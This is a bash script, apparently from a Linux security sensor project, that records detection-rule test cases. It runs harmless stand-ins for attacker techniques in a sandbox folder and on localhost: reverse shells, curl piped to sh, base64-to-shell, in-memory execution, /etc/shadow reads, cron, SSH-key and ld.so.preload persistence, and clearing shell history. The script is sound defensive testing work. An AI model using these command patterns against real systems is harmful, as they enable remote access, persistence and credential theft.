#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# record.sh - makes cases/ anew: what the real sensor says of harmless copies of what the rules watch
#
# Needs root and a built vakt-sensor ($VAKT_BUILD, default build/release). Everything happens in a
# folder of its own under a fixed name, so that a new recording differs from the last only in what
# changed. Connections go to this machine; the one to the "internet" stays in a network namespace.
# A negative case differs from a positive one in a single condition of the rule.
set -euo pipefail
export PATH=/usr/sbin:/usr/bin:/sbin:/bin # where a distribution has its programs, nothing of the caller's
cd "$(dirname "$0")/../.."

BUILD=$(realpath "${VAKT_BUILD:-build/release}/src/programs")
BOX=/tmp/vakt-cases
STATE=$(mktemp -d)
OUT=$PWD/content/rules/cases
SENSOR=
LIST=()

cleanup() {
	[ -z "$SENSOR" ] || kill "$SENSOR" 2>/dev/null || true
	[ -n "${KEEP:-}" ] || rm -rf "$STATE" "$BOX" /dev/shm/vakt-case
}
mkdir "$BOX" # refuses to use what someone else put there
trap cleanup EXIT

# record RULE match|no_match FILTER COMMAND...: runs the command and remembers which rows are its.
record() {
	LIST+=("$1" "$2" "$3")
	"${@:4}" >/dev/null 2>&1 </dev/null || true
}

# The same by the command line of the process.
run() {
	local rule=$1 kind=$2
	shift 2
	record "$rule" "$kind" "$(jq -nr --arg line "$*" \
		'".ActionType == \"ProcessCreated\" and .ProcessCommandLine == \($line | @json)"')" "$@"
}

# The same by the file that a command made; rows that follow from it (written) are left out.
file() {
	local rule=$1 kind=$2 path=$3 action=$4
	shift 4
	record "$rule" "$kind" ".ActionType == \"$action\" and .FolderPath == \"$path\"" "$@"
}

start_sensor() {
	"$BUILD/vakt-sensor" --state-dir "$STATE" --run-dir "$STATE" 2>"$STATE/log" &
	SENSOR=$!
	for _ in $(seq 100); do
		grep -q started "$STATE/log" && return
		sleep 0.1
	done
	cat "$STATE/log" >&2
	return 1
}

behave() {
	local rule

	mkdir -p "$BOX"/{etc/cron.d,etc/systemd/system,home/.ssh,home/.aws}
	echo fake >"$BOX/home/.ssh/id_rsa"
	echo fake >"$BOX/home/.aws/credentials"

	rule=sensitive_file_enumeration
	run $rule match find "$BOX" -name id_rsa -o -name "*.kdbx"
	run $rule match grep -r -i password "$BOX"
	run $rule match cat "$BOX/home/.aws/credentials"
	run $rule no_match find "$BOX" -name "*.conf"
	run $rule no_match grep -i password "$BOX/home/.ssh/id_rsa"
	run $rule no_match grep -r -i hostname "$BOX"
	run $rule no_match ls "$BOX/home/.aws/credentials"

	rule=reverse_shell
	run $rule match bash -c 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'
	run $rule match python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'
	run $rule no_match bash -c 'exec 3<>/dev/tcp/127.0.0.1/1'
	run $rule no_match python3 -c 'import socket;s=socket.socket();s.connect(("127.0.0.1",1))'

	rule=download_to_shell
	run $rule match sh -c 'curl -s file:///dev/null | sh'
	run $rule match bash -c 'bash <(curl -s file:///dev/null)'
	run $rule no_match sh -c 'curl -s file:///dev/null | cat'

	rule=execution_from_memory
	cp /usr/bin/true /dev/shm/vakt-case
	cp /usr/bin/true "$BOX/vakt-case"
	run $rule match /dev/shm/vakt-case
	run $rule no_match "$BOX/vakt-case"
	record $rule match '.ActionType == "ProcessCreated" and .ProcessCommandLine == "vakt-case-memfd"' \
		python3 -c 'import os
fd = os.memfd_create("x")
os.write(fd, open("/usr/bin/true", "rb").read())
os.execve(fd, ["vakt-case-memfd"], {})'
	record $rule match '.ActionType == "ProcessCreated" and .ProcessCommandLine == "vakt-case-deleted"' \
		python3 -c 'import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
os.unlink(sys.argv[1])
os.execve(fd, ["vakt-case-deleted"], {})' "$BOX/vakt-case"

	rule=autostart_file_written
	file $rule match "$BOX/etc/cron.d/job" FileCreated sh -c "echo '* * * * * root true' >$BOX/etc/cron.d/job"
	file $rule match "$BOX/etc/systemd/system/x.service" FileModified cp /etc/hostname "$BOX/etc/systemd/system/x.service"
	file $rule no_match "$BOX/etc/job" FileCreated sh -c "echo '* * * * * root true' >$BOX/etc/job"
	file $rule no_match "$BOX/etc/cron.d/touched" FileCreated touch "$BOX/etc/cron.d/touched"

	rule=ssh_key_added
	file $rule match "$BOX/home/.ssh/authorized_keys" FileModified sh -c "echo fake >>$BOX/home/.ssh/authorized_keys"
	file $rule no_match "$BOX/home/.ssh/known_hosts" FileModified sh -c "echo fake >>$BOX/home/.ssh/known_hosts"

	rule=ld_preload_written
	file $rule match "$BOX/etc/ld.so.preload" FileCreated sh -c "echo /x.so >$BOX/etc/ld.so.preload"
	echo /x.so >"$BOX/etc/x"
	file $rule match "$BOX/etc/ld.so.preload" FileRenamed mv "$BOX/etc/x" "$BOX/etc/ld.so.preload"
	file $rule no_match "$BOX/etc/ld.so.preload" FileDeleted rm "$BOX/etc/ld.so.preload"
	file $rule no_match "$BOX/etc/ld.so.conf" FileCreated sh -c "echo /x >$BOX/etc/ld.so.conf"

	rule=shadow_read
	run $rule match cat /etc/shadow
	run $rule match dd if=/etc/shadow of=/dev/null
	run $rule no_match cat /etc/passwd
	run $rule no_match stat /etc/shadow

	rule=shell_history_cleared
	echo id >"$BOX/home/.bash_history"
	run $rule no_match cp "$BOX/home/.bash_history" "$BOX/home/saved"
	run $rule match rm -f "$BOX/home/.bash_history"
	run $rule match sh -c 'unset HISTFILE; true'
	run $rule no_match rm -f "$BOX/home/.bash_profile"
	run $rule no_match sh -c 'unset HISTTIMEFORMAT; true'

	rule=web_server_shell
	cp /usr/bin/dash "$BOX/nginx"
	cp /usr/bin/dash "$BOX/runner"
	record $rule match '.ActionType == "ProcessCreated" and .ProcessCommandLine == "sh -c id -u"' \
		"$BOX/nginx" -c 'sh -c "id -u"; true'
	record $rule no_match '.ActionType == "ProcessCreated" and .ProcessCommandLine == "sh -c id -g"' \
		"$BOX/runner" -c 'sh -c "id -g"; true'
	record $rule no_match '.ActionType == "ProcessCreated" and .ProcessCommandLine == "id -G"' \
		"$BOX/nginx" -c 'id -G; true'

	rule=base64_to_shell
	run $rule match sh -c 'echo dHJ1ZQ== | base64 -d | sh'
	run $rule match bash -c 'eval "$(echo dHJ1ZQ== | base64 --decode)"'
	run $rule no_match sh -c 'echo dHJ1ZQ== | base64 -d | cat'
	run $rule no_match sh -c 'echo true | base64 | sh'

	rule=shell_connects_outside
	# 203.0.113.0/24 is for documentation; here it is the namespace's own loopback.
	record $rule match '.ActionType == "ConnectionFailed" and .RemoteIP == "203.0.113.1" and .InitiatingProcessFileName == "bash"' \
		unshare -n sh -c 'ip link set lo up; ip address add 203.0.113.1/32 dev lo; exec bash -c ": >/dev/tcp/203.0.113.1/9"'
	record $rule no_match '.ActionType == "ConnectionFailed" and .RemoteIP == "127.0.0.1" and .RemotePort == 9 and .InitiatingProcessFileName == "bash"' \
		bash -c ': >/dev/tcp/127.0.0.1/9'
	record $rule no_match '.ActionType == "ConnectionFailed" and .RemoteIP == "203.0.113.1" and (.InitiatingProcessFileName | startswith("python"))' \
		unshare -n sh -c 'ip link set lo up; ip address add 203.0.113.1/32 dev lo; exec python3 -c "import socket; socket.create_connection((\"203.0.113.1\", 9))"'
}

# The columns that rules look at, of the rows that a filter selects.
rows() {
	jq -c "select($1) | {Table, ActionType, FileName, FolderPath, ProcessCommandLine,
		ProcessCurrentDirectory, AccountName, PreviousFolderPath, PreviousFileName, RemoteIP,
		RemotePort, LocalIP, Protocol, Initiated, InitiatingProcessFileName,
		InitiatingProcessFolderPath, InitiatingProcessCommandLine,
		InitiatingProcessAccountName, InitiatingProcessParentFileName}
		| with_entries(select(.value != null))" "$STATE/events" | head -n 1
}

# cases/RULE.jsonl: {"expect":"match","rule":...,"event":{...}} a line, in the order of recording.
write_cases() {
	local i row
	mkdir -p "$OUT"
	local rule
	for rule in "$OUT"/../linux/*.yml; do rm -f "$OUT/$(basename "$rule" .yml).jsonl"; done
	for ((i = 0; i < ${#LIST[@]}; i += 3)); do
		row=$(rows "${LIST[i + 2]}")
		if [ -z "$row" ]; then
			echo "nothing was recorded for ${LIST[i]}: ${LIST[i + 2]}" >&2
			return 1
		fi
		jq -c --arg rule "${LIST[i]}" --arg kind "${LIST[i + 1]}" \
			'{rule: $rule, expect: $kind, event: .}' <<<"$row" >>"$OUT/${LIST[i]}.jsonl"
	done
}

start_sensor
cd "$BOX"
behave
cd /
sleep 1
kill "$SENSOR"
wait "$SENSOR" || true
SENSOR=
"$BUILD/vakt-frames" "$STATE"/spool/*.seg >"$STATE/events"
write_cases
wc -l "$OUT"/*.jsonl | tail -n 1
